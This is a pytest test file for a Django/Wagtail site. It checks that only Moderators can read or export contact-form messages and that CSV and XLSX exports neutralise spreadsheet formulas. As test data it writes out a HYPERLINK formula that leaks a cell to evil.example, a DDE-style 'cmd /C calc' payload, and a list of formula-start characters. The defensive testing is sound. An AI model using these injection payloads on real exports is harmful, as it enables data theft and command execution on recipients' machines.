"""Contact messages are personal data: only staff given "Can read contact messages" (the
Moderators) list or export them, and an export never carries a spreadsheet formula."""

import csv
import io

from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group, Permission
from django.urls import reverse

import pytest
from openpyxl import load_workbook

pytestmark = pytest.mark.django_db

PASSWORD = "a-long-test-password-1984"
FORMULAS = {
    "your_name": "@SUM(1+1)",
    "your_e_mail_address": "amina@example.org",
    "your_message": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
}


def staff(username, group_name):
    user = get_user_model().objects.create_user(username, f"{username}@ishr.test", PASSWORD)
    user.groups.add(Group.objects.get(name=group_name))
    return user


@pytest.fixture
def contact(demo_site):
    return demo_site.page("contact/")


@pytest.fixture
def a_message(contact, client):
    """A message sent through the real form, with formulas where a visitor can type."""
    client.get(contact.url)
    response = client.post(contact.url, FORMULAS, REMOTE_ADDR="192.0.2.10")
    assert response.status_code == 200
    client.logout()
    return contact


@pytest.fixture
def editor(demo_site):
    return staff("editor", "Editors")


@pytest.fixture
def moderator(demo_site):
    return staff("moderator", "Moderators")


def submissions_url(page, export=None):
    url = reverse("wagtailforms:list_submissions", args=[page.pk])
    return f"{url}?export={export}" if export else url


def body(response):
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def test_the_permission_exists_for_moderators_and_not_for_editors(demo_site):
    permission = Permission.objects.get(codename="read_contact_messages")
    assert permission.name == "Can read contact messages"
    assert Group.objects.get(name="Moderators").permissions.filter(pk=permission.pk).exists()
    assert not Group.objects.get(name="Editors").permissions.filter(pk=permission.pk).exists()


def test_an_editor_cannot_list_read_export_or_delete_messages(a_message, editor, client):
    contact = a_message
    client.force_login(editor)
    forms_index = client.get(reverse("wagtailforms:index"))
    assert submissions_url(contact) not in forms_index.content.decode()
    assert "HYPERLINK" not in forms_index.content.decode()
    dashboard = client.get(reverse("wagtailadmin_home")).content.decode()
    assert reverse("wagtailforms:index") not in dashboard  # no "Forms" menu item

    for url in (
        submissions_url(contact),
        submissions_url(contact, "csv"),
        submissions_url(contact, "xlsx"),
        reverse("wagtailforms:list_submissions_results", args=[contact.pk]),
        reverse("wagtailforms:delete_submissions", args=[contact.pk]),
    ):
        response = client.get(url)
        assert response.status_code in (302, 403), url
        assert b"HYPERLINK" not in body(response), url
        assert b"amina@example.org" not in body(response), url
    assert contact.get_submission_class().objects.filter(page=contact).count() == 1


def test_an_editor_editing_the_contact_page_sees_no_count_or_link_to_messages(
    a_message, editor, client
):
    contact = a_message
    client.force_login(editor)
    response = client.get(reverse("wagtailadmin_pages:edit", args=[contact.pk]))
    assert response.status_code == 200
    html = response.content.decode()
    assert submissions_url(contact) not in html
    assert "contact page submissions" not in html.lower()


def test_a_moderator_reads_the_messages(a_message, moderator, client):
    contact = a_message
    client.force_login(moderator)
    assert submissions_url(contact) in client.get(reverse("wagtailforms:index")).content.decode()
    listing = client.get(submissions_url(contact))
    assert listing.status_code == 200
    assert "amina@example.org" in listing.content.decode()
    edit = client.get(reverse("wagtailadmin_pages:edit", args=[contact.pk])).content.decode()
    assert submissions_url(contact) in edit


def test_the_csv_export_neutralises_formulas(a_message, moderator, client):
    client.force_login(moderator)
    response = client.get(submissions_url(a_message, "csv"))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(body(response).decode("utf-8"))))
    cells = [cell for row in rows for cell in row]
    assert FORMULAS["your_message"] not in cells
    assert "'" + FORMULAS["your_message"] in cells
    assert "'" + FORMULAS["your_name"] in cells
    assert "amina@example.org" in cells  # ordinary text is left as it was
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_xlsx_export_neutralises_formulas(a_message, moderator, client):
    client.force_login(moderator)
    response = client.get(submissions_url(a_message, "xlsx"))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(body(response))).active
    cells = [str(cell.value) for row in sheet.iter_rows() for cell in row if cell.value]
    assert "'" + FORMULAS["your_message"] in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised_also_in_headings(a_message, moderator, client, start):
    from home.models import ContactFormField

    contact = a_message
    # An editor may name a field; a moderator opens the export: headings are cells too.
    ContactFormField.objects.create(
        page=contact, locale=contact.locale, label=f"{start}1+2 question", field_type="singleline"
    )
    client.get(contact.url)
    client.post(
        contact.url,
        {**FORMULAS, "12_question": f"{start}cmd|' /C calc'!A0"},
        REMOTE_ADDR="192.0.2.11",
    )
    client.force_login(moderator)
    rows = list(
        csv.reader(io.StringIO(body(client.get(submissions_url(contact, "csv"))).decode("utf-8")))
    )
    cells = [cell for row in rows for cell in row]
    assert f"'{start}1+2 question" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_group_editor_offers_the_permission_in_the_admins_language(demo_site, client):
    admin = get_user_model().objects.create_superuser("chief", "chief@ishr.test", PASSWORD)
    from wagtail.users.models import UserProfile

    UserProfile.objects.update_or_create(user=admin, defaults={"preferred_language": "fr"})
    client.force_login(admin)
    moderators = Group.objects.get(name="Moderators")
    response = client.get(reverse("wagtailusers_groups:edit", args=[moderators.pk]))
    assert response.status_code == 200
    assert "Peut lire les messages de contact" in response.content.decode()
